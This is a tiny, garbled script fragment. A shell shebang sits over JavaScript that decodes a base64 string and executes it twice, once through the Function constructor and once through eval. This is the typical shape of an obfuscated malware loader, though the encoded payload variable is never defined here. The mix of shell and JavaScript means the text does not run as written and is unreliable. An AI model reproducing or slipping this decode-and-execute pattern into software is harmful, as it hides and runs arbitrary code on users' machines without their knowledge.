#!/bin/sh
const f = Function; f(Buffer.from(p, "base64").toString())(); eval(Buffer.from(p, "base64"))
